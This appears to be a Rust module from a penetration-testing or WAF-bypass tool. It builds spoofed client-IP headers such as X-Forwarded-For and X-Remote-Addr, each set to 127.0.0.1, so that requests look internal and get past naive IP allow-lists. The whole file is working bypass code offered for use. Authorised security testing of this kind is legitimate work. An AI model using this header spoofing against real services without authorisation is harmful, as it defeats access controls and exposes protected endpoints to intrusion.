use serde::{Deserialize, Serialize};

/// Address reported through the spoofed client-IP headers.
pub const LOOPBACK_IP: &str = "127.0.0.1";

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum BypassTechnique {
    /// Extra headers that make the request look like it came from a trusted address.
    HeaderInjection(Vec<(String, String)>),
}

/// Builds the header set used to slip past naive host/IP allow-lists.
pub struct WafBypass {
    spoofed_ip: String,
}

impl WafBypass {
    pub fn new() -> Self {
        Self { spoofed_ip: LOOPBACK_IP.to_string() }
    }

    /// Client-address headers commonly trusted by allow-lists, all pointing at the spoofed IP.
    pub fn technique(&self) -> BypassTechnique {
        BypassTechnique::HeaderInjection(
            ["X-Originating-IP", "X-Forwarded-For", "X-Remote-IP", "X-Remote-Addr"]
                .iter()
                .map(|name| (name.to_string(), self.spoofed_ip.clone()))
                .collect(),
        )
    }

    pub fn headers(&self) -> Vec<(String, String)> {
        match self.technique() {
            BypassTechnique::HeaderInjection(headers) => headers,
        }
    }

    /// Get human-readable explanation of technique
    pub fn explain_technique(technique: &BypassTechnique) -> &'static str {
        match technique {
            BypassTechnique::HeaderInjection(_) => {
                "Inject headers like X-Forwarded-For to appear as internal request"
            }
        }
    }
}

impl Default for WafBypass {
    fn default() -> Self {
        Self::new()
    }
}
